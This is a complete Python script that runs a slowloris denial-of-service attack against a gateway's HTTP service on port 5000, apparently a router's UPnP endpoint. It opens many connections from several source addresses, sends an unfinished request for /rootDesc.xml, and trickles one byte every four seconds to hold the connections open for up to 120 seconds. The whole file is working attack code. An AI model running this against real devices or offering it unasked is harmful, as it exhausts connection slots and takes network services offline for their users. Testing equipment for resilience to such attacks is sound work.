#!/usr/bin/env python3
"""http_exhaust.py GW SECONDS NPERADDR SRC... - slowloris: from each source address open
NPERADDR connections to GW:5000 and keep each alive by sending one header byte every 4 s,
for SECONDS (at most 120). Prints how many connections were accepted and are still open."""
import socket, sys, time

gw, secs, per = sys.argv[1], min(int(sys.argv[2]), 120), int(sys.argv[3])
srcs = sys.argv[4:]
conns = []
for src in srcs:
    for i in range(per):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.bind((src, 0))
            s.connect((gw, 5000))
            s.sendall(b"GET /rootDesc.xml HTTP/1.1\r\nHost: %s\r\n" % gw.encode())
            conns.append(s)
        except OSError as e:
            s.close()
print("opened", len(conns), flush=True)
t0 = time.time()
while time.time() - t0 < secs:
    alive = 0
    for s in conns:
        try:
            s.sendall(b"X")
            alive += 1
        except OSError:
            pass
    print("t=%ds still open %d" % (time.time() - t0, alive), flush=True)
    time.sleep(4)
for s in conns:
    s.close()
